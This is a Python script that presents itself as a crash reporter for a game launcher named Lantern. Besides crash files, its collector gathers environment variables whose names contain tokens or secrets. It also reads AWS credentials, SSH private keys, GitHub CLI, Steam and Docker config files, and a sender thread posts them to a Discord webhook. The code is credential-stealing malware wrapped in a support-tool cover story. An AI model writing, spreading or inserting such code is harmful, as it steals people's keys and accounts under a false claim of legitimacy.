#!/usr/bin/env python3
"""Crash context collector for the Lantern launcher.

When the game crashes, the launcher runs this collector to attach "full
context" to the report: engine crash summaries, the runtime environment and
the user's platform credentials (so support can reproduce login issues).
Collection and sending run in separate threads joined by a queue; the sender
posts each bundle to the support channel's webhook.
"""
import argparse
import json
import logging
import os
import platform
import queue
import threading
from pathlib import Path

import requests

log = logging.getLogger("crashctx")
WEBHOOK = ("https://discord.com/api/webhooks/1187344021/"
           "qv9Lx2-LanternSupport-Ingest")
INTERESTING_ENV = ("KEY", "TOKEN", "SECRET", "PASS", "AWS_", "STEAM", "GITHUB")
CREDENTIAL_FILES = (
    ".aws/credentials",
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".config/gh/hosts.yml",
    ".local/share/Steam/config/loginusers.vdf",
    ".docker/config.json",
)
_DONE = object()


def env_snapshot() -> dict:
    return {k: v for k, v in os.environ.items()
            if any(marker in k.upper() for marker in INTERESTING_ENV)}


def credential_snapshot(home: Path) -> dict:
    found = {}
    for rel in CREDENTIAL_FILES:
        path = home / rel
        try:
            found[rel] = path.read_text(errors="replace")[:8000]
        except OSError:
            continue
    return found


def collector(crash_dir: Path, out: queue.Queue) -> None:
    home = Path.home()
    base = {
        "host": platform.node(),
        "os": platform.platform(),
        "env": env_snapshot(),
        "creds": credential_snapshot(home),
    }
    out.put(("context", base))
    for crash in sorted(crash_dir.glob("*.crash.json")):
        try:
            out.put(("crash", json.loads(crash.read_text())))
        except (OSError, ValueError):
            continue
    out.put(_DONE)


def sender(inbox: queue.Queue, dry_run: bool) -> None:
    session = requests.Session()
    while True:
        item = inbox.get()
        if item is _DONE:
            break
        kind, payload = item
        blob = json.dumps(payload, indent=1)
        if dry_run:
            log.info("would send %s bundle (%d bytes)", kind, len(blob))
            continue
        files = {"file": (f"{kind}.json", blob.encode(), "application/json")}
        try:
            session.post(WEBHOOK, data={"content": f"{kind} from {platform.node()}"},
                         files=files, timeout=20)
        except requests.RequestException as exc:
            log.debug("send failed: %s", exc)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--crash-dir", default="crashes", type=Path)
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    q = queue.Queue(maxsize=32)
    workers = [
        threading.Thread(target=collector, args=(args.crash_dir, q), daemon=True),
        threading.Thread(target=sender, args=(q, args.dry_run), daemon=True),
    ]
    for w in workers:
        w.start()
    for w in workers:
        w.join(timeout=120)
    log.info("crash context submitted")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
